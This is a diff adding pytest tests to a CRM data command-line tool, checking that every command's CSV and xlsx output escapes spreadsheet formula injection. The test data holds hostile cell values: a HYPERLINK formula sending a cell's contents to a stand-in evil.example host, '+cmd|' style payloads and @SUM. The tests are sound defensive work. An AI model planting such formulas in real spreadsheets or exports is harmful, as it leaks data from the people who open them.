@@ -38,6 +38,7 @@ from crmcli.io import read_table, source_info
 from crmcli.schema import map_columns
 from tests.conftest import PUBLIC, ROOT
 from tests.corpus import Case, build_corpus, cases
+from tests import hostile
 from tests.hostile import check_command, run_cli
 
 SPECIAL = ["a_directory.csv", "unreadable.csv", "missing.csv", "loop.csv", "dev_zero"]
@@ -293,3 +294,69 @@ def test_fuzz_clean_and_inspect_from_stdin(tmp_path, head, rows, fmt):
         from tests.hostile import assert_no_live_formula
 
         assert_no_live_formula(out)
+
+
+# --------------------------------------------------------------------------- formula escaping, every output
+
+_FORMULA_RUNS = {
+    "validate": lambda src, o, x: ["validate", src, "--issues", o / f"issues.{x}", "--fail-on", "never"],
+    "clean": lambda src, o, x: ["clean", src, "-o", o / f"cleaned.{x}", "--issues", o / f"issues.{x}"],
+    "dedupe": lambda src, o, x: ["dedupe", src, "-o", o / f"deduped.{x}", "--clusters", o / f"clusters.{x}",
+                                 "--pairs", o / f"pairs.{x}", "--review", o / f"review.{x}", "--threshold", "0.5"],
+    "rfm": lambda src, o, x: ["rfm", src, "-o", o / f"rfm.{x}"],
+    "metrics-group": lambda src, o, x: ["metrics", src, "-o", o / f"metrics.{x}", "--group", "产品"],
+    "metrics-cohorts": lambda src, o, x: ["metrics", src, "-o", o / f"kpis.{x}", "--by", "month",
+                                          "--cohorts", o / f"cohorts.{x}"],
+    "pivot": lambda src, o, x: ["pivot", src, "--rows", "产品,客户名称", "--cols", "渠道", "--values", "金额",
+                                "-o", o / f"pivot.{x}"],
+    "pivot-ids": lambda src, o, x: ["pivot", src, "--rows", "订单号", "--values", "金额", "--agg", "max",
+                                    "-o", o / f"pivot_ids.{x}"],
+    "report": lambda src, o, x: ["report", src, "--customers", src, "-o", o / "report.xlsx"],
+}
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+@pytest.mark.parametrize("source", ["orders_hostile.csv", "orders_hostile.xlsx"])
+@pytest.mark.parametrize("command", list(_FORMULA_RUNS))
+def test_no_live_formula_in_any_output(corpus, tmp_path, command, source, fmt):
+    """Customers named =HYPERLINK(…), products @SUM(A1), channels +cmd|…/-2+3/=A1, an order id =1+1: every
+    command's every output (CSV escaped with a leading ', xlsx as text cells) holds no live formula, and
+    the hostile names reach the outputs (escaped) rather than being dropped."""
+    from tests.hostile import assert_no_live_formula, csv_cells
+
+    if command == "report" and fmt == "csv":
+        pytest.skip("report writes a workbook only")
+    case = corpus[source]
+    out = tmp_path / "out"
+    res = check_command(lambda src, o: _FORMULA_RUNS[command](src, o, fmt), case.path, out,
+                        label=f"formula:{command}", allowed=(0,), expect_code=0)
+    hostile.OUTCOMES.pop()  # not a sweep column: keep the outcome table one column per swept command
+    written = sorted(p for p in out.iterdir() if p.is_file())
+    assert written, res.stderr
+    for path in written:
+        assert_no_live_formula(path)
+    if command in ("dedupe", "clean", "pivot", "metrics-group"):
+        first = written[0] if command != "dedupe" else out / f"deduped.{fmt}"
+        if fmt == "csv":
+            text = {v for row in csv_cells(first) for v in row}
+            want = {"clean": "'" + HYPER_NAME, "dedupe": "'" + HYPER_NAME, "pivot": "'@SUM(A1)",
+                    "metrics-group": "'@SUM(A1)"}[command]
+            assert want in text, f"{first.name}: {want!r} missing"
+
+
+@pytest.mark.parametrize("command", ["rfm", "dedupe", "pivot", "validate"])
+def test_no_live_formula_on_stdout(corpus, command):
+    """`-o -` (CSV on stdout) escapes formula-looking text too."""
+    from crmcli.io import is_formula_like
+
+    src = corpus["orders_hostile.csv"].path
+    args = {"rfm": ["rfm", src, "-o", "-", "-q"], "dedupe": ["dedupe", src, "-o", "-", "-q"],
+            "pivot": ["pivot", src, "--rows", "产品", "-o", "-", "-q"],
+            "validate": ["validate", src, "-o", "-", "--fail-on", "never", "-q"]}[command]
+    res = run_cli(args)
+    assert res.exit_code == 0, res.stderr
+    cells = [v for row in csv.reader(io.StringIO(res.stdout)) for v in row]
+    assert cells and not [v for v in cells if is_formula_like(v)]
+
+
+HYPER_NAME = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
